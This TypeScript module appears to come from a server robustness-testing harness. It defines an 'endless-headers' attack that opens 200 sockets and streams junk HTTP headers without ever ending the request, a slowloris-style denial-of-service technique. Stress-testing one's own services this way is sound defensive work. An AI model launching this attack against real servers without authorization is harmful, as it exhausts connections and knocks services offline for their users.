import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { open, readAnswers, repeat } from '../raw.ts'

const HEADERS = 'x-more: and more\r\n'.repeat(200)

export const endlessHeaders: Attack = {
  name: 'endless-headers',
  title: '200 requests with headers without end, at full speed',
  run: async (target, tally, signal) =>
    repeat(200, signal, async () => {
      const socket = await open(target, tally, signal)
      if (!socket) return
      readAnswers(socket, tally)
      socket.write(`GET /api/v1/store HTTP/1.1\r\nhost: ${target.host}:${target.port}\r\n`)
      while (socket.writable) {
        socket.write(HEADERS)
        await sleep(1)
      }
    }),
}
